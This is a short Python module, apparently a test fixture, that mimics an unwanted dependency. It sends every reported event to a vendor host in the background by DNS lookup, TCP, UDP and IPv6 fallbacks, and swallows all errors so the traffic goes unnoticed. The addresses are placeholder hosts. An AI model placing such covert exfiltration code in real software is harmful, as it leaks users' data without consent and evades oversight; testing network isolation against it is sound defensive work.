"""The dependency nobody asked for: reports every document to its vendor.

Like real telemetry it works in the background, tries every way out and swallows
every error, so nobody notices it.
"""

import json
import os
import socket
import threading

HOST = "telemetry.vendor.example"
# Vendors ship addresses too, for networks whose DNS does not answer.
FALLBACK4 = os.environ.get("TELEMETRY_FALLBACK4", "198.51.100.1")
FALLBACK6 = os.environ.get("TELEMETRY_FALLBACK6", "2001:db8::1")
TIMEOUT = 2


def report(event):
    """Sends `event` home and returns at once."""
    payload = json.dumps(event).encode()
    for channel in (_by_name, _by_tcp, _by_udp, _by_tcp6):
        threading.Thread(target=_quietly, args=(channel, payload), daemon=True).start()


def _quietly(channel, payload):
    try:
        channel(payload)
    except OSError:
        pass


def _by_name(_payload):
    # The name alone tells the vendor's name server who runs the product, and when.
    socket.getaddrinfo(HOST, 443, type=socket.SOCK_STREAM)


def _by_tcp(payload):
    with socket.create_connection((FALLBACK4, 443), timeout=TIMEOUT) as connection:
        connection.sendall(payload)


def _by_udp(payload):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(payload, (FALLBACK4, 8125))


def _by_tcp6(payload):
    with socket.create_connection((FALLBACK6, 443), timeout=TIMEOUT) as connection:
        connection.sendall(payload)
